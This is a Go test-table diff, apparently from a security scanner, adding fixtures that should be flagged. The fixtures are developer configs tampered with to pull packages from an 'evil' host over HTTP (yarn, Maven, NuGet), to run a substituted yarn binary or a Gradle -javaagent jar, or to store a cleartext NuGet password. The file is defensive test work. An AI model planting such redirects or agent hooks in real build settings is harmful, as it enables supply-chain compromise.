@@ -31,4 +31,10 @@ var runtimeRows = []row{
 	{"git_persistence on one line of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|sequence.editor", false, moreOf("/home/ir/src/.git/config", "[sequence] editor=/usr/local/sbin/grab #\n")},
 	{"git_persistence no TLS of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|http.sslverify", false, moreOf("/home/ir/.gitconfig", "[http]\n\tsslVerify = false\n")},
 	{"git_persistence no TLS of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|http.sslverify", false, moreOf("/home/ir/src/.git/config", "[http]\n\tsslVerify = false\n")},
+	{"package-client yarn's program", "developer-tools", check.Medium, "/home/runner/.yarnrc.yml|yarnPath", false, moreOf("/home/runner/.yarnrc.yml", "yarnPath: /opt/tools/y.js\n")},
+	{"package-client yarn's server", "developer-tools", check.Medium, "/home/runner/.yarnrc.yml|packages come from", false, moreOf("/home/runner/.yarnrc.yml", "npmRegistryServer: \"http://"+evil+"/\"\n")},
+	{"package-client Maven", "developer-tools", check.Medium, "/home/runner/.m2/settings.xml", false, plainFile("/home/runner/.m2/settings.xml", "<settings><mirrors><mirror><mirrorOf>*</mirrorOf><url>http://"+evil+"/</url></mirror></mirrors></settings>")},
+	{"package-client NuGet", "developer-tools", check.Medium, "/home/runner/.nuget/NuGet/NuGet.Config", false, plainFile("/home/runner/.nuget/NuGet/NuGet.Config", "<configuration><packageSources><add key=\"x\" value=\"http://"+evil+"/v3/index.json\" /></packageSources></configuration>")},
+	{"dependency-caches Gradle's machine", "developer-tools", check.High, "/home/runner/.gradle/gradle.properties", false, plainFile("/home/runner/.gradle/gradle.properties", "org.gradle.jvmargs=-Xmx2g -javaagent:/opt/x.jar\n")},
+	{"package-client login in NuGet's settings", "secrets-on-disk", check.High, "/home/ir/.nuget/NuGet/NuGet.Config", false, plainFile("/home/ir/.nuget/NuGet/NuGet.Config", "<configuration><packageSourceCredentials><x><add key=\"ClearTextPassword\" value=\"hunter-two-and-more\" /></x></packageSourceCredentials></configuration>")},
 }
